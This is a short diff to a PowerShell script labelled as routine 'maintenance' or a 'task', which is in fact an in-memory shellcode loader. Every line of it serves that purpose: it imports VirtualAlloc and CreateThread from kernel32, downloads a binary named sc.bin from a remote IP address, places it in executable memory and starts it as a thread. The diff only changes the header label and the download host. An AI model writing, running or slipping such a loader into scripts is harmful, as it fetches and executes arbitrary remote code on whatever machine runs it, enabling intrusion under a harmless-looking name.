@@ -1,10 +1,10 @@
-# maintenance 4159 v0
+# task 6450 v0
 $code = @'
 [DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
 [DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
 '@
 $k = Add-Type -MemberDefinition $code -Name K32 -PassThru
-[Byte[]]$sc = (New-Object Net.WebClient).DownloadData('http://198.51.100.23/sc.bin')
+[Byte[]]$sc = (New-Object Net.WebClient).DownloadData('http://203.0.113.17/sc.bin')
 $m = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)
 [System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length)
 $k::CreateThread(0, 0, $m, 0, 0, 0)
